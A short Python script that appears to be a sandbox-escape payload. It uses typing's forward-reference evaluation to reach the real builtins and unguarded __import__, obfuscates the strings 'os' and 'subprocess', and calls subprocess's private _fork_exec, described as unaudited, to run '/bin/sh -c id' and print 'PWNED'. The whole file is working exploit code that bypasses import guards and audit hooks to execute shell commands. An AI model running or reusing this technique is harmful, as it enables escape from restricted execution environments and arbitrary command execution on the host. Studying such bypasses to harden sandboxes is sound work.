# proc: subprocess imported from heapq's frame: its _fork_exec alias is the unaudited fork_exec
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
o = imp("o" + "s")
heapq.nsmallest(1, ["subpro" + "cess"], key=imp)
sp = imp("subpro" + "cess")
ps = type("PS", (), {"fork_exec": staticmethod(ga(sp, "_fork_" + "exec"))})  # subprocess's alias
r, w = o.pipe()
er, ew = o.pipe()
argv = [b"/bin/sh", b"-c", b"id"]
pid = ps.fork_exec(argv, [argv[0]], True, (ew,), None, None, -1, -1, -1, w, -1, -1,
                   er, ew, True, False, -1, None, None, None, -1, None, False)
o.close(w)
o.close(ew)
out = o.read(r, 300)
if out:
    print(M, pid, out)
